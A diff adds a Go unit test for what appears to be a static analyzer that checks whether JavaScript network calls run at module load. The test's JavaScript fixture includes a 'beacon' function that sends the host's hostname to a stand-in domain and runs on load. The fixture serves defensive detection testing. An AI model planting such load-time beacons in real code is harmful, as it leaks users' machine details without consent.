@@ -280,3 +280,19 @@ steal()
 		t.Error("method of a class never used at module level is still inside a function")
 	}
 }
+
+func TestJSFunctionsCalledAtLoad(t *testing.T) {
+	src := `const https = require('https'), os = require('os');
+function beacon() { https.get('https://x.example/?h=' + os.hostname()); }
+const later = () => { https.request({hostname: 'y.example'}); };
+beacon();
+module.exports = { later };
+`
+	f := analyzeSrc(JavaScript, src)
+	if c, _, _ := findCall(f, "https.get"); c.InFunc {
+		t.Error("body of a function called at module level must count as module-level code")
+	}
+	if c, _, _ := findCall(f, "https.request"); !c.InFunc {
+		t.Error("exported function never called at load is still inside a function")
+	}
+}
